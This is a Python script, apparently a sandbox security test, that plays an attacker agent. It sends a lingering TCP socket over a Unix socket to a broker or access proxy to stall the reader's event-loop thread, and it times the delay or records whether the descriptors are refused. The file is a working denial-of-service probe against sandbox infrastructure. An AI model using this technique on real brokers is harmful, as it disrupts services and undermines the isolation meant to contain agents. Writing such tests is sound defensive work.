"""Attacker agent: sends a lingering socket to a Unix socket of the broker's, to stall its thread.

A Unix socket the agent can reach (the access proxy's, bound in for the
relay's fallback; the broker's own, for git's credential helper) is read by
the broker's event loop with a plain ``recv()``. Whatever descriptors a
message carries and the reader does not take, the kernel closes in the
reader's thread; the last close of a TCP socket set to linger, with data its
peer never reads, waits LINGER seconds. The agent sends one with a request,
closes its copy, and times one request through the proxy right after.

Whoever lets go last waits, so an attempt where the agent's own close() was
the one that waited (the broker let go first) is lost and tried again, up to
five times; ``seconds`` leaves out its own close. A socket that refuses
descriptors fails the send with EPERM: ``refused``.

Arguments: the base-URL variable, LINGER (seconds), TARGET (``proxy`` or
``broker``). Prints one JSON line.
"""

import json
import os
import socket
import struct
import sys
import time
import urllib.parse
import urllib.request
from pathlib import Path

base = os.environ[sys.argv[1]]
linger = int(sys.argv[2])
target = sys.argv[3]
if target == "proxy":
    # the access proxy comes first among the sandbox's ways out
    path = sorted(str(p) for p in Path("/run").glob("outloop-relay-*.sock"))[0]
    route = urllib.parse.urlsplit(base).path
    message = b"GET %s/echo HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" % route.encode()
else:
    path = os.environ["OUTLOOP_BROKER_SOCKET"]
    message = b'{"op": "hello"}\n'
kept = []


def lingering() -> socket.socket:
    server = socket.create_server(("127.0.0.1", 0))
    stuck = socket.create_connection(server.getsockname())
    peer, _ = server.accept()
    kept.extend([server, peer])  # the peer is never read
    stuck.setblocking(False)
    try:
        while True:
            stuck.send(b"x" * 65536)
    except BlockingIOError:
        pass
    stuck.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, linger))
    return stuck


def attempt() -> dict[str, object]:
    stuck = lingering()
    found: dict[str, object] = {"refused": False}
    conn = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    conn.settimeout(60)
    conn.connect(path)
    started = time.monotonic()
    try:
        socket.send_fds(conn, [message], [stuck.fileno()])
    except PermissionError:
        found["refused"] = True
        # nobody else holds it: let it go without the wait
        stuck.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 0, 0))
    closing = time.monotonic()
    stuck.close()
    own_close = time.monotonic() - closing
    with urllib.request.urlopen(base + "/echo", timeout=60) as response:
        found["status"] = response.status
    found["seconds"] = round(time.monotonic() - started - own_close, 2)
    found["lost"] = own_close > linger / 2
    kept.append(conn)
    return found


tries = 1
found = attempt()
while found["lost"] and tries < 5:
    tries += 1
    found = attempt()
found["tries"] = tries
print(json.dumps(found), flush=True)
